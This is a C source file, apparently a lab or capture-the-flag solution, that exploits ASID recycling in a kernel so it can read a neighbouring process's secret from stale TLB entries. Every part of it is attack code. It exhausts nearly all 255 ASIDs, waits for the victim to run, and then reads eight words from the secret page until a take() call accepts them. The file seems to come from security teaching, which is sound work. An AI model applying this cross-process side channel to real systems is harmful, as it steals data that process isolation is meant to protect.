/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * An address space that is given up gets another ASID of the machine's when it is used again. After 255
 * of them the first is given once more: the neighbour's, who ran first. What is left in the hardware's
 * TLB of his is ours then, for as long as nothing displaces it.
 */
#include "thief.h"

uint8_t found[16];

enum { ALL = 255, LEFT = 10 };

/* Let the space have another ASID. */
static void renew(void)
{
    uint32_t word;
    tlbinv_asid(9);
    peek(0, 9, &word);
}

int main(void)
{
    uint32_t words[8];
    for (int i = 0; i < ALL - LEFT; i++) { /* too few for the first to come again */
        renew();
    }
    for (int tries = 0; tries < 2 * LEFT; tries++) { /* each behind a turn of the neighbour's */
        uint32_t i = 0;
        doze(700);
        tlbinv_asid(9);
        while (i < 8 && peek(SECRET_PAGE + SECRET_MARK + 4 * i, 9, &words[i])) {
            i++;
        }
        if (i == 8 && take(words)) {
            break;
        }
    }
    return 0;
}
